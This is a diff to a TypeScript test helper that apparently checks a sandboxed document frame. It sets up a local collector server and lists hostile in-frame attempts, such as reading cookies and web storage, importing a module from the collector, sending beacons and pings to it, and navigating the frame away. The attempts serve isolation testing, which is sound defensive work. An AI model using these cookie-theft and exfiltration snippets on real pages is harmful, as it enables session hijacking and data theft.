@@ -1,29 +1,29 @@
-// What a hostile document tries from inside its frame, as documents of each type, and a server elsewhere that hears
-// whatever gets out.
+// What a hostile document tries inside its frame, as documents of each type, and a server elsewhere that receives
+// everything they leak.
 
 export interface Collector {
   readonly origin: string;
-  /** Everything that reached it. */
-  readonly heard: string[];
+  /** Everything received. */
+  readonly received: string[];
   stop(): Promise<void>;
 }
 
 export function startCollector(): Collector {
-  const heard: string[] = [];
+  const received: string[] = [];
   const server = Bun.serve({
     port: 0,
     hostname: "127.0.0.1",
     fetch: (request) => {
-      heard.push(`${request.method} ${request.url}`);
+      received.push(`${request.method} ${request.url}`);
       return new Response("heard", { headers: { "access-control-allow-origin": "*" } });
     },
   });
-  return { origin: `http://127.0.0.1:${server.port}`, heard, stop: () => server.stop(true) };
+  return { origin: `http://127.0.0.1:${server.port}`, received, stop: () => server.stop(true) };
 }
 
 /** Attempts that must end in an error; each is the body of an async function. */
 const attempts = (collector: string, instance: string): Readonly<Record<string, string>> => ({
-  // A document has cookies and storage of its own, in memory: what is the app's must not be among it.
+  // A document has separate cookies and storage in memory, which must not include the app's.
   readCookie: "if (document.cookie === '') throw new Error('empty'); return document.cookie",
   localStorage: "if (localStorage.length === 0) throw new Error('empty'); return JSON.stringify({ ...localStorage })",
   sessionStorage:
@@ -46,11 +46,11 @@ const attempts = (collector: string, instance: string): Readonly<Record<string, 
   dynamicImport: `return await import('${collector}/module.js')`,
 });
 
-/** The names of the attempts a type can make: jsx that imports from elsewhere is not even published. */
+/** The names of the attempts that a type can make: jsx with foreign imports is not even published. */
 export const attemptNames = (type: "html" | "jsx"): string[] =>
   Object.keys(attempts("", "")).filter((name) => type === "html" || name !== "dynamicImport");
 
-/** Tried too, but they tell nobody how they ended: only the collector's silence does. */
+/** Further attempts that report no outcome: only the collector shows that they fail. */
 const silent = (collector: string): string => `
   document.cookie = 'session=stolen'; localStorage.setItem('kept', 'stolen'); sessionStorage.setItem('kept', 'stolen');
   navigator.sendBeacon('${collector}/beacon', 'a');
@@ -62,7 +62,7 @@ const silent = (collector: string): string => `
   const a = document.createElement('a'); a.href = '${collector}/ping'; a.ping = '${collector}/ping'; document.body.append(a);
 `;
 
-/** JavaScript that makes every attempt and answers with how each ended. */
+/** JavaScript that makes every attempt and returns how each ended. */
 function script(type: "html" | "jsx", collector: string, instance: string): string {
   const bodies = attempts(collector, instance);
   const tries = attemptNames(type).map(
@@ -107,7 +107,7 @@ The end of it.
 `;
 }
 
-/** Documents that send their own frame elsewhere, by name of the way. */
+/** Documents that navigate their own frame elsewhere, by method. */
 export const leavingDocuments = (collector: string): Readonly<Record<string, string>> => {
   const later = (script: string) =>
     `<!doctype html><title>Leaving</title><p>Still here</p><script>setTimeout(() => { ${script} }, 50);</script>`;
